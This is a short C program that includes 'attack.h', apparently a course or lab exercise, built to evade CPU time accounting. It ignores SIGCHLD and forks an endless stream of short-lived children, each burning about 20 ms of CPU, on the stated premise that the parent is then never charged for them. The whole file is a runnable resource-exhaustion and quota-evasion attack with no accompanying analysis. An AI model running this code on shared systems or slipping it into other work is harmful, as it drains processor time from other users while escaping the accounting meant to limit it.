#include "attack.h"

// A parent that ignores SIGCHLD is never charged for its children.
int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        pid_t pid = fork();
        if (pid == 0) {
            clock_t end = clock() + CLOCKS_PER_SEC / 50;
            while (clock() < end) {}
            _exit(0);
        }
        if (pid < 0) usleep(1000);
        else waitpid(pid, NULL, 0);
    }
}
